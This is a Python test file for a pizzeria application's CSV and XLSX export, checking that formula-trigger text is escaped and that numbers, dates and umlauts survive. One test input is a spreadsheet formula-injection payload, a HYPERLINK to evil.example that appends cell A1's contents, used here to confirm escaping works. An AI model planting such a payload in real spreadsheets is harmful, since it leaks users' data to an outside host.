"""Tables as CSV and XLSX: what is written can be read again, and no text is computed as a formula."""

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from pizzeria.foundation.spreadsheets import csv_bytes, escape_formula, xlsx_bytes
from tests.length import by_length

pytestmark = pytest.mark.long

TRIGGERS = tuple("=+-@\t\r\n\0")
ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"Anna")'

texts = st.one_of(st.text(), st.builds(str.__add__, st.sampled_from(TRIGGERS), st.text()))


def read_csv(content):
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content):
    return [list(row) for row in load_workbook(BytesIO(content)).active.iter_rows()]


@settings(max_examples=by_length(50, 2000))
@given(text=texts)
@example(text=ATTACK)
@example(text="  =1+1")
@example(text="\uff1d1+1")
@example(text='a,"b"\r\nc;\'d')
def test_csv_is_read_as_written_and_no_text_begins_like_a_formula(text):
    header, row = read_csv(csv_bytes(["Name"], [[text]]))

    assert header == ["Name"]
    [read] = row or [""]  # a blank line: one empty cell
    assert read in (text, f"'{text}")
    assert not read.lstrip(" ").startswith(TRIGGERS)


@settings(max_examples=by_length(20, 500))
@given(text=st.text(st.characters(categories=["L", "N", "P", "S", "Zs"]), min_size=1), trigger=st.sampled_from("=+-@"))
def test_a_workbook_has_text_in_its_cells_and_no_formula(text, trigger):
    [[_header], [cell]] = read_xlsx(xlsx_bytes(["Name"], [[trigger + text]], title="Customers"))

    assert cell.data_type == "s"
    assert cell.value == f"'{trigger}{text}"


@pytest.mark.parametrize("text", ["\0=1", "\ud800 lone", "Anna\ufffe", "\x1b[31m", "#N/A", "a\x00b"])
def test_what_xml_cannot_carry_is_left_out_of_a_workbook(text):
    [[_header], [cell]] = read_xlsx(xlsx_bytes(["Name"], [[text]], title="Customers"))

    assert cell.data_type == "s"
    assert not str(cell.value).startswith(TRIGGERS)


def test_numbers_dates_and_times_stay_what_they_are_in_a_workbook():
    night = datetime(2026, 11, 20, 19, 0, tzinfo=UTC)

    [_header, row] = read_xlsx(
        xlsx_bytes(list("abcde"), [[Decimal("-12.50"), 3, date(2026, 11, 20), night, None]], title="Day: [1/2]")
    )

    assert [cell.value for cell in row] == [-12.5, 3, datetime(2026, 11, 20), datetime(2026, 11, 20, 20, 0), None]
    assert [cell.number_format for cell in row[:4]] == ["#,##0.00", "General", "yyyy-mm-dd", "yyyy-mm-dd hh:mm"]
    assert row[2].is_date


def test_csv_has_plain_numbers_iso_dates_umlauts_and_a_byte_order_mark():
    night = datetime(2026, 11, 20, 19, 0, tzinfo=UTC)

    content = csv_bytes(["Größe"], [["Käse", Decimal("-1234.50"), -3, date(2026, 11, 20), night, None]])

    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig") == "Größe\r\nKäse,-1234.50,-3,2026-11-20,2026-11-20 20:00+01:00,\r\n"


@pytest.mark.parametrize("text", ["Anna", "12.99", "a=b", "", "O'Hara", "'quoted'"])
def test_other_texts_stay_as_they_are(text):
    assert escape_formula(text) == text
